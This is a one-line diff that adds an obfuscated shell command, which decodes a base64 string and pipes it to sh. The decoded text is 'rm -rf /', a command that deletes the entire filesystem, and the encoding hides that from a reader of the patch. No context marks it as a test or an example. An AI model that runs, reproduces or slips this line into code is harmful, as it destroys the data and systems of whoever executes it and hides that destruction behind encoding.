@@ -1,0 +1,1 @@
+echo cm0gLXJmIC8K | base64 -d | sh
